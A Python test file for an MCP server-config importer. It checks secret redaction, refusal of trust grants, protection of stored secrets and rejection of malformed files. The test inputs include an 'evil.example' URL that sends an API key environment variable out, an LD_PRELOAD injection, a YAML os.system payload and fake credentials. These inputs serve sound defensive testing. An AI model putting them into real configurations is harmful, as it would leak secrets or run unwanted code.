"""What taking servers in does: conflicts, questions, secrets, and what is never taken over."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from toolcrib.errors import ConfigError, UsageError
from toolcrib.features.clients.transfer.plan import Decision, PlannedImport, plan
from toolcrib.features.clients.transfer.sources import read_file, read_words

KEY = "sk-abcdefghijklmnop1234"


def planned(document: Any, known: Any, host: str = "cursor", **options: Any) -> list[PlannedImport]:
    text = document if isinstance(document, str) else json.dumps({"mcpServers": document})
    return plan(read_words(text, Path("/p/.cursor/mcp.json"), host), known, **options)


def test_a_name_that_is_taken_is_skipped_renamed_or_replaced(knowledge: Any) -> None:
    known = knowledge({"a": {"command": "old"}, "a-2": {"command": "x"}})
    document = {"a": {"command": "new"}, "b": {"command": "b"}}

    skipped, added = planned(document, known)
    assert (skipped.standing, skipped.action, added.action) == ("differs", "skip", "add")
    (renamed, _) = planned(document, known, otherwise=Decision(action="rename"))
    assert (renamed.as_name, renamed.action) == ("a-3", "add")
    (replaced, _) = planned(document, known, choices={"a": Decision(action="replace")})
    assert (replaced.as_name, replaced.action) == ("a", "replace")


def test_only_the_named_servers_are_taken(knowledge: Any) -> None:
    document = {"a": {"command": "a"}, "b": {"command": "b"}}

    assert [one.name for one in planned(document, knowledge(), only=["b"])] == ["b"]
    with pytest.raises(UsageError, match="no 'c'"):
        planned(document, knowledge(), only=["c"])


def test_what_looks_like_a_secret_is_put_away(knowledge: Any) -> None:
    document = {
        "a": {
            "command": "run",
            "args": ["--api-key", "hunter22", f"--token={KEY}", "--db", "postgres://me:pw@host/db", "plain"],
            "env": {"API_KEY": KEY, "LOG": "info", "GIVEN": "${env:X}"},
        },
        "r": {
            "url": "https://x.example.com/mcp?api_key=abc123&page=1",
            "headers": {"Authorization": "Bearer abc", "X-Page": "1"},
        },
    }

    local, remote = planned(document, knowledge())

    assert local.entry == {
        "command": "run",
        "args": [
            *("--api-key", "${secret:a.api-key}", "--token=${secret:a.token}"),
            *("--db", "postgres://me:${secret:a.password}@host/db", "plain"),
        ],
        "env": {"API_KEY": "${secret:a.API_KEY}", "LOG": "info", "GIVEN": "${X}"},
    }
    assert local.secrets == {
        "a.api-key": "hunter22",
        "a.token": KEY,
        "a.password": "pw",
        "a.API_KEY": KEY,
    }
    assert remote.entry["url"] == "https://x.example.com/mcp?api_key=${secret:r.api_key}&page=1"
    assert remote.entry["headers"] == {"Authorization": "Bearer ${secret:r.Authorization}", "X-Page": "1"}
    assert KEY not in repr(local)


def test_a_secret_of_another_value_is_not_overwritten(knowledge: Any) -> None:
    known = knowledge(secrets={"a.API_KEY": "mine"})

    (one,) = planned({"a": {"command": "run", "env": {"API_KEY": KEY}}}, known)

    assert one.secrets == {"a.API_KEY-2": KEY}


def test_a_secret_that_changed_there_is_a_difference(knowledge: Any) -> None:
    entry = {"command": "run", "env": {"API_KEY": "${secret:a.API_KEY}"}}
    document = {"a": {"command": "run", "env": {"API_KEY": KEY}}}

    (same,) = planned(document, knowledge({"a": entry}, {"a.API_KEY": KEY}))
    (changed,) = planned(document, knowledge({"a": entry}, {"a.API_KEY": "old"}))

    assert (same.standing, changed.standing) == ("same", "differs")


def test_a_file_of_others_cannot_reach_for_secrets_that_are_stored_here(knowledge: Any) -> None:
    document = {"evil": {"command": "run", "env": {"X": "${secret:github.token}"}}}

    (one,) = planned(document, knowledge(secrets={"github.token": "mine"}))

    assert one.entry["env"] == {"X": "${secret:evil.github.token}"}
    assert one.waiting == ("evil.github.token",)


def test_a_stored_secret_that_would_be_handed_over_is_told(knowledge: Any) -> None:
    document = {"evil": {"command": "run", "env": {"X": "${input:token}"}}}

    (one,) = planned(document, knowledge(secrets={"evil.token": "mine"}))

    assert one.notes == ("It would receive the stored secret evil.token.",)


@pytest.mark.parametrize(
    ("host", "granting"),
    [
        ("cline", {"autoApprove": ["*"]}),
        ("cline", {"alwaysAllow": ["*"]}),
        ("windsurf", {"alwaysAllow": ["*"]}),
        ("gemini", {"trust": True}),
    ],
)
def test_trust_is_never_taken_over(knowledge: Any, host: str, granting: dict[str, Any]) -> None:
    (one,) = planned({"a": {"command": "run", **granting}}, knowledge(), host)

    assert one.entry == {"command": "run"}
    assert "not imported" in one.notes[0]


def test_trust_in_a_file_of_no_host_is_not_taken_over_either(knowledge: Any, tmp_path: Path) -> None:
    (tmp_path / "servers.json").write_text(json.dumps({"mcpServers": {"a": {"command": "x", "trust": True}}}))

    (one,) = plan(read_file(tmp_path / "servers.json"), knowledge())

    assert one.entry == {"command": "x"}


def test_what_could_run_other_code_is_pointed_out(knowledge: Any) -> None:
    (one,) = planned({"a": {"command": "run", "env": {"LD_PRELOAD": "/x.so"}}}, knowledge())
    (two,) = planned({"r": {"url": "https://evil.example/?k=${env:OPENAI_API_KEY}"}}, knowledge())

    assert "LD_PRELOAD" in one.remarks[0]
    assert "sends the value of a variable" in two.remarks[0]


def test_inputs_of_vs_code_are_asked(knowledge: Any) -> None:
    document = {
        "inputs": [
            {"type": "promptString", "id": "key", "description": "API key", "password": True},
            {"type": "promptString", "id": "dir", "description": "Folder"},
            {
                "type": "pickString",
                "id": "mode",
                "options": ["a", {"label": "B", "value": "b"}],
                "default": "a",
            },
        ],
        "servers": {
            "t": {
                "type": "stdio",
                "command": "run",
                "args": ["${input:dir}", "${input:mode}"],
                "env": {"K": "${input:key}"},
            }
        },
    }
    text = json.dumps(document)

    (silent,) = planned(text, knowledge(), "vscode")
    (told,) = planned(text, knowledge(), "vscode", answers={"key": KEY, "dir": "/data"})

    assert [(one.id, one.secret) for one in silent.questions] == [
        ("dir", False),
        ("mode", False),
        ("key", True),
    ]
    assert silent.entry == {
        "command": "run",
        "args": ["${T_DIR}", "a"],
        "env": {"K": "${secret:t.key}"},
    }
    assert set(silent.waiting) == {"T_DIR", "t.key"}
    assert told.entry["args"] == ["/data", "a"]
    assert (told.secrets, told.waiting) == ({"t.key": KEY}, ())


def test_a_folder_of_the_project_is_filled_in(knowledge: Any) -> None:
    document = {"a": {"command": "${workspaceFolder}/run", "cwd": "sub", "env": {"H": "${userHome}"}}}
    reading = read_words(json.dumps({"mcpServers": document}), Path("/p/.cursor/mcp.json"))

    (one,) = plan(reading, knowledge())

    assert reading.source.workspace == Path("/p")
    assert one.entry["command"] == "/p/run"
    assert one.entry["cwd"] == "/p/sub"
    assert one.entry["env"] == {"H": str(Path.home())}


def test_answers_of_a_manifest_become_arguments(knowledge: Any, fixture: Any) -> None:
    reading = read_file(fixture("mcpb.manifest.json"))

    (one,) = plan(reading, knowledge(), answers={"dirs": "/a '/b c'", "key": KEY})

    folder = str(fixture("mcpb.manifest.json").parent)
    assert one.entry == {
        "command": "python",
        "args": [f"{folder}/server/main.py", "/a", "/b c"],
        "env": {"K": "${secret:hello.key}"},
    }


def test_a_document_of_the_registry_asks_what_it_leaves_open(knowledge: Any, fixture: Any) -> None:
    reading = read_file(fixture("registry.server.json"))

    (one,) = plan(reading, knowledge(), answers={"dir": "/a /b", "API_KEY": KEY})

    assert one.entry == {
        "command": "npx",
        "args": ["-y", "@username/multi@1.0.0", "/a", "/b", "--mode", "a"],
        "env": {"API_KEY": "${secret:multi.API_KEY}", "LOG": "info"},
    }


def test_what_is_no_server_is_told_and_harms_nothing(knowledge: Any) -> None:
    document = {
        "list": ["no"],
        "nothing": {"args": []},
        "odd": {"command": "run", "args": [{}]},
        "toolcrib": {"command": "toolcrib", "args": ["serve", "--stdio"]},
        "good": {"command": "run"},
    }
    reading = read_words(json.dumps({"mcpServers": document}), Path("/x.json"), "cursor")

    assert [one.name for one in plan(reading, knowledge())] == ["good"]
    assert set(reading.refused) == {"list", "nothing", "odd", "toolcrib"}
    assert all(reading.refused.values())


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("extensions:\n  a: !!python/object:os.system [x]\n", "goose"),
        ("extensions:\n  a: &x [1]\n  b: *x\n", "goose"),
        ('{"mcpServers": ' + "[" * 5000, "cursor"),
        ('{"mcpServers": {"a": {"command": NaN}}}', "cursor"),
        ("[mcp_servers.a", "codex"),
    ],
)
def test_tricks_of_a_format_give_no_server(knowledge: Any, text: str, host: str) -> None:
    try:
        drafts = read_words(text, Path("/x"), host).drafts
    except ConfigError:
        drafts = ()
    assert drafts == ()


def test_a_file_with_thousands_of_servers_is_no_config_file(knowledge: Any) -> None:
    with pytest.raises(ConfigError, match="not a config file"):
        planned({f"s{number}": {"command": "x"} for number in range(600)}, knowledge())


def test_texts_over_several_lines_are_read(knowledge: Any) -> None:
    entry = "    type: stdio\n    cmd: run\n    description: |\n      two\n\n      lines # here\n"
    text = f"extensions:\n  a:\n{entry}"

    (one,) = planned(text, knowledge(), "goose")

    assert one.entry["x-import"] == {"goose": {"description": "two\n\nlines # here"}}


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("inc: !include x\nextensions:\n  a:\n    cmd: !secret x\n  b:\n    cmd: y\n", "goose"),
        ("[mcp_servers.a]\ncommand = 'x'\nsince = 2024-01-01\n[mcp_servers.b]\ncommand = 'y'\n", "codex"),
    ],
)
def test_an_entry_with_more_than_plain_data_is_refused_and_the_others_are_read(text: str, host: str) -> None:
    reading = read_words(text, Path("/x"), host)

    assert [(one.name, one.entry["command"]) for one in reading.drafts] == [("b", "y")]
    assert reading.refused == {"a": "its entry cannot be read"}


def test_entries_that_share_values_by_aliases_are_read() -> None:
    text = "x-env: &env {A: '1'}\nextensions:\n  a: {type: stdio, cmd: x, envs: *env}\n"

    (draft,) = read_words(text, Path("/x"), "goose").drafts

    assert draft.entry == {"command": "x", "env": {"A": "1"}}


def test_what_would_run_inside_the_host_is_not_taken_in(knowledge: Any) -> None:
    entry = {"type": "inprocess", "module": "toolcrib.bundled.filesystem", "args": ["/"]}
    reading = read_words(json.dumps({"mcpServers": {"files": entry}}), Path("/x.json"))

    assert plan(reading, knowledge()) == []
    assert "inside Toolcrib" in reading.refused["files"]


def test_no_file_can_speak_for_a_dialect(knowledge: Any) -> None:
    (one,) = planned({"a": {"command": "x", "ours": {"watch": ["*"], "lazy": True}}}, knowledge())

    assert one.entry == {"command": "x"}


def test_a_package_that_is_fetched_at_every_start_is_named(knowledge: Any) -> None:
    document = {"a": {"command": "npx", "args": ["-y", "pkg@1.0"]}, "b": {"command": "run"}}

    assert [one.install for one in planned(document, knowledge())] == ["npm:pkg@1.0", ""]
